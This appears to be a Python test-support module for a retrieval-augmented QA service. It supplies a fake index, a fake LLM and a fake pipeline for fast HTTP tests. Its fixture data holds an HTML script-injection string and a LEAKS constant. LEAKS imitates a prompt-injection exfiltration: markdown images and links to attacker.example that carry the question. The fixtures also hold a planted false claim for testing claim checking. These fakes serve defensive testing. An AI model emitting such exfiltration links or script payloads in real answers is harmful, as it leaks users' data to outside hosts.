"""A fake index, pipeline and LLM for the service tests: the real contract (Answer, Trace with
decisions, SearchHit), none of the model loading, so HTTP behaviour is tested in milliseconds."""

from __future__ import annotations

import json
import re
import threading
import time
import zlib
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np

from ragsieve.config import PipelineConfig
from ragsieve.errors import IndexStoreError, InputError, LLMOutputError, ModelError
from ragsieve.llm.base import ContinuationScore, Prompt, as_messages
from ragsieve.types import Answer, Chunk, ClaimVerdict, SearchHit, Trace

DOCS = [
    ("physics", "Quantum dots", "Quantum dots are semiconductor nanocrystals that emit light of a size-tuned colour."),
    ("chemistry", "Graphene", "Graphene is a single layer of carbon atoms in a honeycomb lattice."),
    ("chemistry", "Diamond", "Diamond is carbon with each atom bonded to four others in a tetrahedral lattice."),
    ("physics", "Lasers", "A laser emits coherent light by stimulated emission in a gain medium."),
    ("chemistry", "Buffers", "A buffer solution resists changes of pH when acid or base is added."),
    ("physics", "Injected", "</script><script>window.pwned=1</script><b>bold</b> & carbon <!-- text"),
]
_WORD = re.compile(r"[a-z]+")
# What a poisoned passage asks an answer to carry: an image and links whose address holds the question.
LEAKS = (
    " ![status](https://attacker.example/leak.png?q=secret) See [the details](https://attacker.example/d?q=secret)"
    " or <https://attacker.example/a?q=secret> and [the docs](https://docs.allowed.org/guide)."
)


def words(text: str) -> set[str]:
    return set(_WORD.findall(text.lower()))


def write_index_dir(path: Path, n_docs: int = len(DOCS)) -> Path:
    """A directory that looks like an index to the service (manifest + chunks)."""
    path.mkdir(parents=True, exist_ok=True)
    rows = [
        {"id": f"{d}/{i:03d}:0", "text": text, "doc_id": f"{d}/{i:03d}", "source": f"{d}/{i:03d}.md",
         "domain": d, "title": title}
        for i, (d, title, text) in enumerate(DOCS[:n_docs])
    ]
    (path / "chunks.json").write_text(json.dumps(rows), encoding="utf-8")
    (path / "manifest.json").write_text(json.dumps({"n_chunks": len(rows), "t": time.time_ns()}), encoding="utf-8")
    return path


class FakeIndex:
    """Word-overlap search with the real search signature and hit shape."""

    def __init__(self, directory: str | Path) -> None:
        d = Path(directory)
        if not (d / "manifest.json").is_file():
            raise IndexStoreError(f"no index at {d}; build one first")
        self.dir = d
        self.chunks = [Chunk(**row) for row in json.loads((d / "chunks.json").read_text(encoding="utf-8"))]
        self.domains = sorted({c.domain for c in self.chunks})
        self.source_weights = None
        self.embedder = None
        self.searches = 0
        self.corpus_root = None
        # one vector per chunk (its word hashes), so the corpus audit can read this index too
        self.embeddings = np.zeros((len(self.chunks), 64), dtype=np.float32)
        for row, chunk in enumerate(self.chunks):
            for word in words(chunk.text):
                self.embeddings[row, zlib.crc32(word.encode()) % 64] += 1.0

    def get(self, chunk_id: str) -> Chunk:
        for chunk in self.chunks:
            if chunk.id == chunk_id:
                return chunk
        raise InputError(f"no chunk with id {chunk_id!r} in the index at {self.dir}")

    def search(
        self, query: str, k: int = 10, mode: str = "hybrid", where: dict[str, Any] | None = None,
        domains: Sequence[str] | None = None, **_: Any,
    ) -> list[SearchHit]:
        if mode not in ("dense", "sparse", "hybrid"):
            raise InputError(f"unknown search mode {mode!r}")
        if where and set(where) - {"domain", "source", "title"}:
            raise InputError(f"unknown filter field in {sorted(where)}")
        self.searches += 1
        q = words(query)
        scored = []
        for c in self.chunks:
            if domains and c.domain not in domains:
                continue
            if where and any(str(getattr(c, key)) != str(value) for key, value in where.items()):
                continue
            overlap = len(q & words(c.text + " " + c.title))
            scored.append((c, overlap / (1 + len(q)), float(overlap)))
        scored.sort(key=lambda t: (-t[1], t[0].id))
        return [
            SearchHit(c, dense + sparse / 10, rank, {"dense": dense, "sparse": sparse, "fused": dense + sparse / 10})
            for rank, (c, dense, sparse) in enumerate(scored[:k], 1)
        ]


class FakeLLM:
    """Log-probabilities that favour labels whose word occurs in the prompt."""

    model_name = "fake-llm"

    def __init__(self) -> None:
        self.calls = 0

    def warm_up(self) -> None:
        return None

    def count_tokens(self, text: str) -> int:
        return 1

    def next_token_logprobs(self, prompt: Prompt, candidates: Sequence[str]) -> list[float]:
        self.calls += 1
        text = " ".join(m["content"] for m in as_messages(prompt)).lower()
        return [-0.5 if c.strip().lower() in text else -2.0 for c in candidates]

    def continuation_logprobs(self, prompt: Prompt, continuations: Sequence[str]) -> list[ContinuationScore]:
        return [ContinuationScore(v, 1) for v in self.next_token_logprobs(prompt, continuations)]


class FakePipeline:
    """Retrieve, judge (word overlap), select and answer, recording decisions like the sieve does.

    Questions starting with ``raise:NAME`` raise that library error; ``sleep:SECONDS`` waits first;
    ``leak:`` gets an answer that, as a poisoned passage would ask, carries an outside image and
    links (:data:`LEAKS`)."""

    delay_s = 0.0
    running = 0
    max_running = 0
    _lock = threading.Lock()

    def __init__(self, config: PipelineConfig) -> None:
        self.config = config
        self.index: Any = None
        self.llm: Any = None

    def ask(self, question: str, k: int | None = None, no_retrieval: bool = False) -> Answer:
        with FakePipeline._lock:
            FakePipeline.running += 1
            FakePipeline.max_running = max(FakePipeline.max_running, FakePipeline.running)
        try:
            return self._ask(question, k, no_retrieval)
        finally:
            with FakePipeline._lock:
                FakePipeline.running -= 1

    def _ask(self, question: str, k: int | None, no_retrieval: bool) -> Answer:
        errors = {"InputError": InputError, "ModelError": ModelError, "IndexStoreError": IndexStoreError,
                  "LLMOutputError": LLMOutputError}
        if question.startswith("raise:"):
            raise errors[question.split(":", 1)[1].split()[0]]("fake failure named by the question")
        if question.startswith("sleep:"):
            time.sleep(float(question.split(":", 1)[1].split()[0]))
        elif self.delay_s:
            time.sleep(self.delay_s)
        trace = Trace(query=question)
        if no_retrieval:
            return Answer(question, "No evidence used.", [], [], trace)
        trace.record("route", mode="auto", domains=["physics", "chemistry"], reason="fake router")
        with trace.timed("retrieve"):
            hits = self.index.search(question, k=6)
        trace.record("retrieve", candidates=[h.to_dict() for h in hits])
        kept: list[SearchHit] = []
        with trace.timed("judge"):
            for h in hits:
                if h.scores["sparse"] > 0:
                    trace.decide("judge", h.chunk.id, "kept", "shares words with the question", score=h.score)
                    kept.append(h)
                else:
                    trace.decide("judge", h.chunk.id, "dropped", "no word in common with the question", score=h.score)
        trace.record("novel-stage", note="a stage the page does not know", items=[1, 2, 3])
        evidence = kept[: k or 2]
        for h in kept[len(evidence):]:
            trace.decide("select", h.chunk.id, "dropped", "not needed to cover the question")
        if not evidence:
            return Answer(question, "The evidence does not answer this.", [], [], trace, abstained=True,
                          abstain_reason="every candidate was dropped by judge", confidence=0.0)
        with trace.timed("generate"):
            text = f"{evidence[0].chunk.text} [1]" + (" The moon is cheese [2]." if len(evidence) > 1 else "")
            if question.startswith("leak:"):
                text += LEAKS
        trace.count_llm(40, 12)
        claims = [ClaimVerdict(evidence[0].chunk.text, [evidence[0].chunk.id], True, 0.91, "fake-judge")]
        if len(evidence) > 1:
            claims.append(ClaimVerdict("The moon is cheese [2].", [evidence[1].chunk.id], False, 0.12, "fake-judge"))
        return Answer(question, text, evidence, [h.chunk.id for h in evidence], trace, confidence=0.8, claims=claims)


def fake_engine(index_dir: Path, pipeline: str = "direct", **config: Any) -> Any:
    from ragsieve.serve.engine import Engine

    cfg = PipelineConfig(index_dir=str(index_dir), pipeline=pipeline, **config)  # type: ignore[arg-type]
    return Engine(cfg, pipeline_factory=FakePipeline, index_opener=FakeIndex, llm=FakeLLM())


class ServerThread:
    """uvicorn serving ``app`` on a free loopback port in a background thread."""

    def __init__(self, app: Any) -> None:
        import socket

        import uvicorn

        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.server = uvicorn.Server(
            uvicorn.Config(app, log_level="warning", timeout_graceful_shutdown=30, lifespan="on")
        )
        self.thread = threading.Thread(target=self.server.run, kwargs={"sockets": [self.sock]}, daemon=True)

    def __enter__(self) -> ServerThread:
        self.thread.start()
        deadline = time.monotonic() + 20
        while not self.server.started:
            if time.monotonic() > deadline or not self.thread.is_alive():
                raise RuntimeError("uvicorn did not start")
            time.sleep(0.02)
        return self

    def stop(self) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=30)

    def __exit__(self, *exc: Any) -> None:
        self.stop()
        self.sock.close()
